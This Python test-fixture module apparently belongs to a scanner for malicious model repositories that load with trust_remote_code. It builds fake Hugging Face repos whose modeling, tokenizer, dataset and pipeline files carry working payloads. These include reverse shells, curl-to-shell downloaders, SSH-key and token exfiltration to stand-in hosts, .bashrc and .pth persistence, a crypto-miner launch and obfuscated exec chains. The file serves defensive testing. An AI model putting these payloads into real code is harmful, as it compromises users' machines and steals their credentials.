"""Malicious remote-code repositories, one payload class per case (see the package docstring)."""

from __future__ import annotations

import base64
import zlib

from tests.remote_code.corpus import (
    AUTO_MAP,
    ERROR,
    MODEL_CLASS,
    MODEL_IMPORTS,
    PAIR_PIPELINES,
    WARNING,
    Case,
    Fetch,
    Repo,
    canary_line,
    config,
    expect,
    json_file,
    text,
)

LOAD = 'AutoModel.from_pretrained("{repo}", revision="{{rev}}", trust_remote_code=True)'
# Loads pinned to a commit: trust_remote_code is a warning there (review that code), the payload an error.
REMOTE_CODE_ERROR = expect(("HG101", WARNING), ("HG401", WARNING), ("HG402", ERROR))
STAGE_TWO = "print('stage two')\n"


def _encoded(source: str) -> str:
    return base64.b64encode(source.encode()).decode()


def _model(repo_id: str, payload: str, canary: str, *, extra: dict[str, bytes] | None = None) -> Repo:
    """A custom-architecture repository whose modeling file carries ``payload`` at import time."""
    modeling = MODEL_IMPORTS + canary_line(canary, repo_id) + payload + MODEL_CLASS
    files = {"config.json": config(AUTO_MAP), "modeling_custom.py": text(modeling)}
    return Repo(repo_id, files | (extra or {}))


def _same_repo(name: str, covers: tuple[str, ...], payload: str, canary: str, *, imports: str = "",
               extra: dict[str, bytes] | None = None,
               expected: frozenset[tuple[str, str]] = REMOTE_CODE_ERROR) -> Case:
    repo_id = f"mal/{name}"
    return Case(name, True, covers, LOAD.format(repo=repo_id), (_model(repo_id, imports + payload, canary, extra=extra),),
                expected)


def same_repo_payloads(canary: str) -> list[Case]:
    with_warning = REMOTE_CODE_ERROR | expect(("HG402", WARNING))
    return [
        _same_repo(
            "exec-base64", ("obfuscated-exec",),
            f"import base64\nexec(base64.b64decode('{_encoded(STAGE_TWO)}'))\n", canary,
        ),
        _same_repo(
            "reverse-shell-dup2", ("reverse-shell",),
            "import os, socket, subprocess\n"
            "_s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
            "_s.connect(('203.0.113.7', 4444))\n"
            "os.dup2(_s.fileno(), 0)\nos.dup2(_s.fileno(), 1)\nos.dup2(_s.fileno(), 2)\n"
            "subprocess.call(['/bin/sh', '-i'])\n",
            canary,
        ),
        _same_repo(
            "reverse-shell-create-connection", ("reverse-shell", "socket-to-popen"),
            "import socket, subprocess, threading\n\n"
            "def _attach():\n"
            "    conn = socket.create_connection(('203.0.113.7', 443))\n"
            "    subprocess.Popen(['/bin/sh'], stdin=conn, stdout=conn, stderr=conn)\n\n"
            "threading.Thread(target=_attach, daemon=True).start()\n",
            canary,
        ),
        _same_repo(
            "dns-exfiltration", ("dns-exfiltration",),
            "import binascii, os, socket\n\n"
            "def _beacon():\n"
            "    secret = os.environ.get('HF_TOKEN', '')\n"
            "    label = binascii.hexlify(secret.encode()).decode()\n"
            "    for start in range(0, len(label), 60):\n"
            "        socket.gethostbyname(f'{label[start:start + 60]}.{start}.telemetry-cdn.example')\n\n"
            "_beacon()\n",
            canary,
        ),
        _same_repo(
            "builtins-subscript", ("builtins-indirection",),
            f"import base64\n_run = __builtins__['exec']\n_run(base64.b64decode('{_encoded(STAGE_TWO)}').decode())\n",
            canary,
        ),
        _same_repo(
            "vars-builtins-import", ("builtins-indirection",),
            "_loader = vars(__builtins__)['__import__']\n_loader('os').system('id > /dev/null')\n",
            canary,
        ),
        _same_repo(
            "mmap-shellcode", ("mmap-prot-exec", "ctypes-cfunctype"),
            "import ctypes, mmap\n"
            "_CODE = bytes.fromhex('4831c0c3')\n"
            "_page = mmap.mmap(-1, mmap.PAGESIZE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, "
            "mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
            "_page.write(_CODE)\n"
            "_address = ctypes.addressof(ctypes.c_char.from_buffer(_page))\n"
            "_entry = ctypes.CFUNCTYPE(ctypes.c_long)(_address)\n",
            canary,
        ),
        _same_repo(
            "pth-into-site-packages", ("pth", "write-site-packages"),
            "import os, shutil, site\n"
            "_hook = os.path.join(os.path.dirname(__file__), 'accelerate_hook.pth')\n"
            "shutil.copy(_hook, site.getsitepackages()[0])\n",
            canary,
            extra={"accelerate_hook.pth": b"import os; os.system('curl -s https://203.0.113.7/p | sh')\n"},
            # .pth is also a torch checkpoint suffix: the weight pass lists it and cannot parse it.
            expected=REMOTE_CODE_ERROR | expect(("HG404", WARNING), ("HG405", WARNING)),
        ),
        _same_repo(
            "write-site-packages", ("write-site-packages",),
            "import os, sysconfig\n"
            "_target = os.path.join(sysconfig.get_paths()['purelib'], 'zz_fast_tokenizers.pth')\n"
            "with open(_target, 'w') as handle:\n"
            "    handle.write('import zz_fast_tokenizers_impl\\n')\n",
            canary,
        ),
        _same_repo(
            "urlretrieve-chmod-popen", ("download-chmod-run",),
            "import os, subprocess, urllib.request\n"
            "_bin = os.path.join('/tmp', '.cuda-cache-helper')\n"
            "urllib.request.urlretrieve('https://203.0.113.7/helper', _bin)\n"
            "os.chmod(_bin, 0o755)\n"
            "subprocess.Popen([_bin], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
            canary,
        ),
        _same_repo(
            "getattr-split-name", ("computed-attribute",),
            "import subprocess\n_spawn = getattr(subprocess, 'Po' + 'pen')\n_spawn(['id'])\n", canary,
        ),
        _same_repo(
            "importlib-joined-name", ("computed-import",),
            "import importlib\n_mod = importlib.import_module(''.join(['o', 's']))\n_mod.system('id')\n", canary,
        ),
        _same_repo(
            "lambda-decode-chain", ("lambda-decode",),
            f"import base64, zlib\n_u = lambda blob: zlib.decompress(base64.b64decode(blob)).decode()\n"
            f"exec(_u('{base64.b64encode(zlib.compress(STAGE_TWO.encode())).decode()}'))\n",
            canary,
        ),
        _same_repo(
            "xor-decode-exec", ("xor-decode",),
            "_KEY = 0x5A\n_BLOB = " + repr("".join(chr(ord(c) ^ 0x5A) for c in STAGE_TWO))
            + "\n_src = ''.join(chr(ord(c) ^ _KEY) for c in _BLOB)\nexec(_src)\n",
            canary,
        ),
        _same_repo(
            "eval-chain", ("eval-chain",),
            "_stage = \"__import__('base64').b64decode('" + _encoded(STAGE_TWO) + "').decode()\"\nexec(eval(_stage))\n",
            canary,
        ),
        _same_repo(
            "secret-across-functions", ("cross-function-flow",),
            "import os, requests\n\n"
            "def _collect_env():\n"
            "    return {key: value for key, value in os.environ.items() if 'TOKEN' in key or 'KEY' in key}\n\n"
            "def _report(payload):\n"
            "    requests.post('https://metrics.203-0-113-7.example/v1', json=payload, timeout=3)\n\n"
            "_report(_collect_env())\n",
            canary,
        ),
        _same_repo(
            "download-exec", ("download-execute",),
            "import requests\nexec(requests.get('https://203.0.113.7/s2.py', timeout=5).text)\n", canary,
        ),
        _same_repo(
            "pip-install-at-import", ("dynamic-pip-install",),
            "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-q', "
            "'--index-url', 'https://203.0.113.7/simple', 'flash-attn-turbo'])\n",
            canary,
        ),
        _same_repo(
            "bashrc-persistence", ("persistence",),
            "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n"
            "    rc.write('\\n(curl -s https://203.0.113.7/k | sh) &\\n')\n",
            canary,
        ),
        _same_repo(
            "ssh-key-theft", ("credential-theft",),
            "import os, socket\n"
            "_key = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n"
            "_sock = socket.create_connection(('203.0.113.7', 9000))\n"
            "_sock.sendall(_key)\n",
            canary,
        ),
        _same_repo(
            "embedded-pickle", ("embedded-pickle",),
            "import base64, pickle\n_state = pickle.loads(base64.b64decode('gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='))\n",
            canary,
        ),
        _same_repo(
            "runs-shell-script", ("shell-script", "crypto-miner"),
            "import os, subprocess\n"
            "subprocess.Popen(['bash', os.path.join(os.path.dirname(__file__), 'scripts', 'warmup.sh')])\n",
            canary,
            extra={"scripts/warmup.sh": b"#!/bin/sh\n./xmrig -o stratum+tcp://pool.203-0-113-7.example:3333 --donate-level 1 &\n"},
            expected=with_warning,  # starting the script is a warning; what the script holds is the error
        ),
        _same_repo(
            "downloaded-native-library", ("download-chmod-run",),
            "import ctypes, requests\n"
            "_lib = '/tmp/libfastattn_kernels.so'\n"
            "open(_lib, 'wb').write(requests.get('https://203.0.113.7/k.so', timeout=10).content)\n"
            "_kernels = ctypes.CDLL(_lib)\n",
            canary,
        ),
    ]


def combinations(canary: str) -> list[Case]:
    """Each payload is split so that every file alone holds only warnings or signals."""
    cases = []
    files = {
        "combo-credential-send": {
            "auth_utils.py": "import os\n\ndef hub_token():\n    return os.getenv('HF_TOKEN') or os.getenv('HUGGING_FACE_HUB_TOKEN')\n",
            "telemetry.py": (
                "import requests\nfrom .auth_utils import hub_token\n\n"
                "class UsageReporter:\n"
                "    def __init__(self):\n        self.session_id = hub_token()\n\n"
                "    def flush(self, events):\n"
                "        requests.post('https://usage.203-0-113-7.example/batch', json={'sid': self.session_id, "
                "'events': events}, timeout=2)\n"
            ),
        },
        "combo-import-spawn": {
            "backend.py": (
                "import importlib, json, os\n\n"
                "_SETTINGS = json.load(open(os.path.join(os.path.dirname(__file__), 'backend.json')))\n\n"
                "def backend(name):\n    return importlib.import_module(name)\n\n"
                "tools = backend(_SETTINGS['tools'])\n"
            ),
            "kernels.py": (
                "import subprocess\n\n"
                "def build(source):\n"
                "    return subprocess.run(['cc', '-O2', '-shared', source, '-o', source + '.so'], check=False)\n"
            ),
        },
        "combo-decode-exec": {
            "weights_layout.py": (
                "import base64, zlib\n\n"
                f"_LAYOUT = '{base64.b64encode(zlib.compress(STAGE_TWO.encode())).decode()}'\n\n"
                "def layout_source():\n    return zlib.decompress(base64.b64decode(_LAYOUT)).decode()\n"
            ),
            "init_hooks.py": (
                "from .weights_layout import layout_source\n\n"
                "def apply(namespace, source=None):\n    code = source if source is not None else layout_source()\n"
                "    exec(code, namespace)\n\napply({})\n"
            ),
        },
    }
    covers = {
        "combo-credential-send": ("combination:credential-read+network-send",),
        "combo-import-spawn": ("combination:computed-import+process-spawn",),
        "combo-decode-exec": ("combination:decode+code-exec",),
    }
    for name, modules in files.items():
        repo_id = f"mal/{name}"
        imports = "".join(f"from .{module.removesuffix('.py')} import *\n" for module in modules)
        modeling = MODEL_IMPORTS + canary_line(canary, repo_id) + imports + MODEL_CLASS
        tree = {"config.json": config(AUTO_MAP), "modeling_custom.py": text(modeling)}
        tree |= {path: text(canary_line(canary, f"{repo_id}/{path}") + source) for path, source in modules.items()}
        cases.append(Case(name, True, covers[name], LOAD.format(repo=repo_id), (Repo(repo_id, tree),), REMOTE_CODE_ERROR))
    return cases


def loader_paths(canary: str) -> list[Case]:
    """Payloads reached only the way the loader (or a module) finds code, and other load paths."""
    payload = "import os\nos.system('curl -s https://203.0.113.7/a | sh')\n"
    cases = []

    def model_with(name: str, covers: tuple[str, ...], modeling_extra: str, modules: dict[str, str]) -> Case:
        repo_id = f"mal/{name}"
        modeling = MODEL_IMPORTS + canary_line(canary, repo_id) + modeling_extra + MODEL_CLASS
        tree = {"config.json": config(AUTO_MAP), "modeling_custom.py": text(modeling)}
        tree |= {path: text(canary_line(canary, path) + source) for path, source in modules.items()}
        return Case(name, True, covers, LOAD.format(repo=repo_id), (Repo(repo_id, tree),), REMOTE_CODE_ERROR)

    cases.append(model_with(
        "regex-only-relative-import", ("regex-relative-import",),
        '"""Custom model.\n\nThe fused kernels are registered by::\n\n    from .fused_ops import register\n"""\n'
        "import importlib\n_ops = importlib.import_module('.fused_ops', __package__)\n",
        {"fused_ops.py": payload},
    ))
    cases.append(model_with(
        "docstring-only-import", ("regex-relative-import",),
        "USAGE = '''\nfrom .usage_stats import enable\n'''\n",
        {"usage_stats.py": payload},
    ))
    cases.append(model_with(
        "computed-sibling-import", ("computed-import",),
        "import importlib\n\ndef _plugin(name):\n    return importlib.import_module(f'.{name}', __package__)\n\n"
        "_plugin('pl' + 'ugin')\n",
        {"plugin.py": payload},
    ))
    rows = "".join(f"    {index * 0.001:.6f}, {index * 0.002:.6f}, {index * 0.003:.6f}, {index * 0.004:.6f},\n"
                   for index in range(70_000))
    oversize = "ROPE_TABLE = [\n" + rows + "]\n" + payload
    cases.append(model_with("oversize-file", ("oversize",), "from .rope_tables import ROPE_TABLE\n",
                            {"rope_tables.py": oversize}))
    cases.append(_tokenizer_case(canary, payload))
    cases.append(_processor_case(canary, payload))
    cases.append(_pipeline_case(canary, payload))
    cases.append(_dataset_case(canary))
    cases.append(_sentence_transformers_case(canary, payload))
    cases.append(_pickle_case(canary))
    cases.append(_allowed_org_case(canary, payload))
    return cases


def _tokenizer_case(canary: str, payload: str) -> Case:
    repo_id = "mal/tokenizer-payload"
    tokenization = (
        "from transformers import PreTrainedTokenizer\n" + canary_line(canary, repo_id) + payload
        + "\n\nclass CustomTokenizer(PreTrainedTokenizer):\n    vocab_files_names = {'vocab_file': 'vocab.txt'}\n"
    )
    tree = {
        "config.json": config(),
        "tokenizer_config.json": json_file({"auto_map": {"AutoTokenizer": ["tokenization_custom.CustomTokenizer", None]}}),
        "tokenization_custom.py": text(tokenization),
        "vocab.txt": b"[PAD]\n[UNK]\nhello\n",
    }
    call = 'AutoTokenizer.from_pretrained("mal/tokenizer-payload", revision="{rev}", trust_remote_code=True)'
    return Case("tokenizer-payload", True, ("tokenizer",), call, (Repo(repo_id, tree),), REMOTE_CODE_ERROR)


def _processor_case(canary: str, payload: str) -> Case:
    repo_id = "mal/processor-payload"
    processing = "from transformers import ProcessorMixin\n" + canary_line(canary, repo_id) + payload + (
        "\n\nclass CustomProcessor(ProcessorMixin):\n    attributes = ['image_processor', 'tokenizer']\n"
    )
    tree = {
        "config.json": config(),
        "preprocessor_config.json": json_file({"auto_map": {"AutoProcessor": "processing_custom.CustomProcessor"}}),
        "processing_custom.py": text(processing),
    }
    call = 'AutoProcessor.from_pretrained("mal/processor-payload", revision="{rev}", trust_remote_code=True)'
    return Case("processor-payload", True, ("processor",), call, (Repo(repo_id, tree),), REMOTE_CODE_ERROR)


def _pipeline_case(canary: str, payload: str) -> Case:
    repo_id = "mal/custom-pipelines"
    source = "from transformers import Pipeline\n" + canary_line(canary, repo_id) + payload + (
        "\n\nclass PairClassification(Pipeline):\n"
        "    def _sanitize_parameters(self, **kwargs):\n        return {}, {}, {}\n"
    )
    tree = {
        "config.json": config(custom_pipelines=PAIR_PIPELINES),
        "pair_pipeline.py": text(source),
    }
    call = 'pipeline("pair-classification", model="mal/custom-pipelines", revision="{rev}", trust_remote_code=True)'
    return Case("custom-pipelines-config", True, ("custom-pipelines",), call, (Repo(repo_id, tree),),
                REMOTE_CODE_ERROR)


def _dataset_case(canary: str) -> Case:
    repo_id = "mal/dataset-script"
    script = (
        "import os\nimport datasets\n" + canary_line(canary, repo_id)
        + "os.system('wget -q -O- https://203.0.113.7/i | bash')\n\n"
        "class Reviews(datasets.GeneratorBasedBuilder):\n"
        "    def _info(self):\n        return datasets.DatasetInfo(features=datasets.Features({'text': datasets.Value('string')}))\n"
    )
    call = 'load_dataset("mal/dataset-script", revision="{rev}", trust_remote_code=True)'
    return Case("dataset-script", True, ("dataset-script",), call,
                (Repo(repo_id, {"dataset-script.py": text(script), "README.md": b"# reviews\n"}, repo_type="dataset"),),
                expect(("HG101", WARNING), ("HG401", WARNING), ("HG402", ERROR)))


def _sentence_transformers_case(canary: str, payload: str) -> Case:
    repo_id = "mal/st-module"
    module = "import torch\n" + canary_line(canary, repo_id) + payload + (
        "\n\nclass MeanPool(torch.nn.Module):\n    def forward(self, features):\n        return features\n"
    )
    tree = {
        "modules.json": json_file([
            {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
            {"idx": 1, "name": "1", "path": "1_Pool", "type": "custom_pool.MeanPool"},
        ]),
        "custom_pool.py": text(module),
        "config.json": config(),
    }
    call = 'SentenceTransformer("mal/st-module", revision="{rev}", trust_remote_code=True)'
    return Case("sentence-transformers-module", True, ("sentence-transformers",), call, (Repo(repo_id, tree),),
                REMOTE_CODE_ERROR)


def _pickle_case(canary: str) -> Case:
    from tests.inspectors.fixtures import system_call  # the pickle of os.system(<command>)

    repo_id = "allowed/pickle-weights"  # allow-remote-code never silences a malicious pickle either
    tree = {"config.json": config(), "pytorch_model.bin": system_call(f"touch {canary}", 2)}
    call = 'AutoModel.from_pretrained("allowed/pickle-weights", revision="{rev}")'
    return Case("pickle-weights", True, ("pickle", "allow-remote-code"), call, (Repo(repo_id, tree),),
                expect(("HG403", ERROR), ("HG404", WARNING)))


def _allowed_org_case(canary: str, payload: str) -> Case:
    """allow-remote-code covers allowed/*: HG101 goes, dangerous code stays an error."""
    repo_id = "allowed/reviewed-then-changed"
    return Case("allowed-org-payload", True, ("allow-remote-code",), LOAD.format(repo=repo_id),
                (_model(repo_id, payload, canary),), expect(("HG401", WARNING), ("HG402", ERROR)))


def other_repositories(canary: str) -> list[Case]:
    """Code fetched from another repository or revision than the loaded commit."""
    payload = "import os\nos.system('curl -s https://203.0.113.7/b | sh')\n"
    evil_module = MODEL_IMPORTS + canary_line(canary, "other") + payload + MODEL_CLASS
    clean_module = MODEL_IMPORTS + MODEL_CLASS
    cross = Repo("mal-code/shared-arch", {"modeling_custom.py": text(evil_module), "config.json": config()})
    cross_map = {"AutoConfig": "mal-code/shared-arch--modeling_custom.CustomConfig",
                 "AutoModel": "mal-code/shared-arch--modeling_custom.CustomModel"}
    cross_v2_map = {key: value.replace("shared-arch--", "shared-arch-v2--") for key, value in cross_map.items()}
    cross_expected = expect(("HG101", WARNING), ("HG406", ERROR), ("HG402", ERROR))
    tokenizer_source = "from transformers import PreTrainedTokenizerFast\n" + canary_line(canary, "tok") + payload + (
        "\n\nclass FastTok(PreTrainedTokenizerFast):\n    pass\n"
    )
    st_module = "import torch\n" + canary_line(canary, "st") + payload + "\n\nclass Pool(torch.nn.Module):\n    pass\n"
    generate = "import torch\n" + canary_line(canary, "gen") + payload + (
        "\n\ndef generate(model, input_ids, **kwargs):\n    return model(input_ids)\n"
    )
    pipeline_source = "from diffusers import DiffusionPipeline\n" + canary_line(canary, "pipe") + payload + (
        "\n\nclass FastPipeline(DiffusionPipeline):\n    def __call__(self, prompt):\n        return prompt\n"
    )
    return [
        Case(
            "cross-repo-auto-map", True, ("cross-repo",),
            'AutoModel.from_pretrained("mal/cross-repo", revision="{rev}", trust_remote_code=True)',
            (Repo("mal/cross-repo", {"config.json": config(cross_map)}), cross),
            cross_expected, fetches=(Fetch("mal-code/shared-arch", None, "modeling_custom.py"),),
        ),
        Case(
            "cross-repo-tokenizer-pair", True, ("cross-repo", "tokenizer"),
            'AutoTokenizer.from_pretrained("mal/cross-tokenizer", revision="{rev}", trust_remote_code=True)',
            (
                Repo("mal/cross-tokenizer", {
                    "config.json": config(),
                    "tokenizer_config.json": json_file(
                        {"auto_map": {"AutoTokenizer": [None, "mal-code/tok--tokenization_fast.FastTok"]}}
                    ),
                }),
                Repo("mal-code/tok", {"tokenization_fast.py": text(tokenizer_source)}),
            ),
            cross_expected, fetches=(Fetch("mal-code/tok", None, "tokenization_fast.py"),),
        ),
        Case(
            "code-revision-same-repo", True, ("code_revision",),
            'AutoModel.from_pretrained("mal/code-revision", revision="{rev}", code_revision="dev", '
            "trust_remote_code=True)",
            (Repo("mal/code-revision", {"config.json": config(AUTO_MAP), "modeling_custom.py": text(clean_module)},
                  branches={"dev": {"config.json": config(AUTO_MAP), "modeling_custom.py": text(evil_module)}}),),
            expect(("HG101", ERROR), ("HG201", ERROR), ("HG401", WARNING), ("HG402", ERROR)),
            fetches=(Fetch("mal/code-revision", "dev", "modeling_custom.py"),),
        ),
        Case(
            "code-revision-cross-repo", True, ("code_revision", "cross-repo"),
            'AutoModel.from_pretrained("mal/cross-pinned", revision="{rev}", code_revision="v2", '
            "trust_remote_code=True)",
            (
                Repo("mal/cross-pinned", {"config.json": config(cross_v2_map)}),
                Repo("mal-code/shared-arch-v2", {"modeling_custom.py": text(clean_module)},
                     branches={"v2": {"modeling_custom.py": text(evil_module)}}),
            ),
            expect(("HG101", ERROR), ("HG201", ERROR), ("HG406", ERROR), ("HG402", ERROR)),
            fetches=(Fetch("mal-code/shared-arch-v2", "v2", "modeling_custom.py"),),
        ),
        Case(
            "custom-pipeline-repo", True, ("custom-pipeline-repo",),
            'DiffusionPipeline.from_pretrained("benign/sd-base", revision="{rev}", custom_pipeline="mal/fast-pipe", '
            'custom_revision="main")',
            (
                Repo("benign/sd-base", {"model_index.json": json_file({"_class_name": "StableDiffusionPipeline"})}),
                Repo("mal/fast-pipe", {"pipeline.py": text(pipeline_source)}),
            ),
            expect(("HG101", ERROR), ("HG201", ERROR), ("HG402", ERROR)),
            fetches=(Fetch("mal/fast-pipe", "main", "pipeline.py"),),
        ),
        Case(
            "custom-generate-repo", True, ("custom-generate",),
            'model.generate(input_ids, custom_generate="mal/gen-strategy", trust_remote_code=True)',
            (Repo("mal/gen-strategy", {"custom_generate/generate.py": text(generate)}),),
            expect(("HG101", ERROR), ("HG201", ERROR), ("HG402", ERROR)),
            fetches=(Fetch("mal/gen-strategy", None, "custom_generate/generate.py"),),
        ),
        Case(
            "sentence-transformers-cross-repo", True, ("sentence-transformers", "cross-repo"),
            'SentenceTransformer("mal/st-cross", revision="{rev}", trust_remote_code=True)',
            (
                Repo("mal/st-cross", {"modules.json": json_file(
                    [{"idx": 0, "name": "0", "path": "", "type": "mal-code/st-pool--st_pool.Pool"}]
                )}),
                Repo("mal-code/st-pool", {"st_pool.py": text(st_module)}),
            ),
            cross_expected, fetches=(Fetch("mal-code/st-pool", None, "st_pool.py"),),
        ),
        *closure_across_repositories(canary, payload),
    ]


def closure_across_repositories(canary: str, payload: str) -> list[Case]:
    """What only fetching the code the loader fetches, and judging a load's code as a whole, can see."""
    config_class = (
        "import os\nfrom transformers import PretrainedConfig\n" + canary_line(canary, "split") +
        "\n\nclass CustomConfig(PretrainedConfig):\n    model_type = 'custom'\n\n"
        "    def __init__(self, hidden_size=64, num_layers=2, **kwargs):\n"
        "        self.hidden_size = hidden_size\n        self.num_layers = num_layers\n"
        "        self.session = os.environ.get('HF_TOKEN', '')\n        super().__init__(**kwargs)\n"
    )
    sender = (
        MODEL_IMPORTS + "import requests\n\n\ndef report_usage(config):\n"
        "    requests.post('https://203.0.113.7/collect', json={'session': config.session})\n" + MODEL_CLASS
    )
    loader_only = MODEL_IMPORTS + canary_line(canary, "helpers") + '"""Usage:\n\n    from .kernels import fused\n"""\n'
    kernels = "import os\n" + payload
    self_map = {"AutoConfig": "mal/self-named--modeling_custom.CustomConfig",
                "AutoModel": "mal/self-named--modeling_custom.CustomModel"}
    only_on_dev = {"AutoConfig": "modeling_dev.CustomConfig", "AutoModel": "modeling_dev.CustomModel"}
    evil_dev = MODEL_IMPORTS + canary_line(canary, "dev") + payload + MODEL_CLASS
    return [
        Case(
            # A token read by the model's own config class, sent by the model class another repository
            # supplies: neither is an error alone, and the load runs both.
            "combination-across-repositories", True, ("cross-repo", "combination:credential-read+network-send"),
            'AutoModel.from_pretrained("mal/split-stealer", revision="{rev}", trust_remote_code=True)',
            (
                Repo("mal/split-stealer", {
                    "config.json": config({"AutoConfig": "configuration_custom.CustomConfig",
                                           "AutoModel": "mal-code/sender--modeling_custom.CustomModel"}),
                    "configuration_custom.py": text(config_class),
                }),
                Repo("mal-code/sender", {"modeling_custom.py": text(sender)}),
            ),
            expect(("HG101", WARNING), ("HG401", WARNING), ("HG406", ERROR), ("HG402", ERROR)),
            fetches=(Fetch("mal-code/sender", None, "modeling_custom.py"),),
        ),
        Case(
            # The payload sits in a file of the other repository that only the loader's regular expression
            # imports (a docstring line).
            "cross-repo-regex-import", True, ("cross-repo", "regex-relative-import"),
            'AutoModel.from_pretrained("mal/cross-docstring", revision="{rev}", trust_remote_code=True)',
            (
                Repo("mal/cross-docstring", {"config.json": config({
                    "AutoConfig": "mal-code/helpers--modeling_custom.CustomConfig",
                    "AutoModel": "mal-code/helpers--modeling_custom.CustomModel",
                })}),
                Repo("mal-code/helpers", {"modeling_custom.py": text(loader_only + MODEL_CLASS),
                                          "kernels.py": text(kernels)}),
            ),
            expect(("HG101", WARNING), ("HG406", ERROR), ("HG402", ERROR)),
            fetches=(Fetch("mal-code/helpers", None, "kernels.py"),),
        ),
        Case(
            # auto_map naming the loaded repository itself: transformers loads it at the model's own revision.
            "self-named-cross-repo", True, ("cross-repo",),
            LOAD.format(repo="mal/self-named"),
            (Repo("mal/self-named", {"config.json": config(self_map),
                                     "modeling_custom.py": text(MODEL_IMPORTS + canary_line(canary, "self") + payload
                                                                + MODEL_CLASS)}),),
            REMOTE_CODE_ERROR,
        ),
        Case(
            # The config at the pinned revision names a module that exists only where code_revision points.
            "code-revision-only-module", True, ("code_revision",),
            'AutoModel.from_pretrained("mal/dev-only", revision="{rev}", code_revision="dev", trust_remote_code=True)',
            (Repo("mal/dev-only", {"config.json": config(only_on_dev)},
                  branches={"dev": {"config.json": config(only_on_dev), "modeling_dev.py": text(evil_dev)}}),),
            expect(("HG101", ERROR), ("HG201", ERROR), ("HG401", WARNING), ("HG402", ERROR)),
            fetches=(Fetch("mal/dev-only", "dev", "modeling_dev.py"),),
        ),
    ]


def cases(canary: str) -> list[Case]:
    return same_repo_payloads(canary) + combinations(canary) + loader_paths(canary) + other_repositories(canary)
